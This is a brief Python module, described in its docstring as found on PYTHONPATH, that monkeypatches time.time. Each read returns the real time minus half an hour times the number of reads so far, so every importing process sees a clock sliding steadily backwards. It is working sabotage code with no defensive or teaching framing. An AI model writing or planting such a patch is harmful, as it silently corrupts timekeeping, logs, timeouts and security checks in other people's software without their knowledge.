"""Found on PYTHONPATH: the clock of every process is set back by half an hour each time it is read."""

import time

_read = time.time
_readings = 0


def _set_back() -> float:
    global _readings
    _readings += 1
    return _read() - 1800 * _readings


time.time = _set_back
